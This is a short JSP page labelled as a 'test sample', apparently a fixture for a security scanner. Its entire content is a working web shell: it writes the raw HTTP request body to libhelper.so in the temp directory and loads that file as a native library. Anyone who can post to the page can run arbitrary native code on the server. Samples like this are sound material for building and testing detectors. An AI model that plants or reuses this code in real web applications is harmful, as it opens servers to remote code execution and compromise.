<%@ page import="java.nio.file.*" %>
<%-- test sample: the request body copied to a file, then loaded as a native library --%>
<%
    Path lib = Paths.get(System.getProperty("java.io.tmpdir"), "libhelper.so");
    Files.copy(request.getInputStream(), lib, StandardCopyOption.REPLACE_EXISTING);
    Runtime.getRuntime().load(lib.toString());
%>
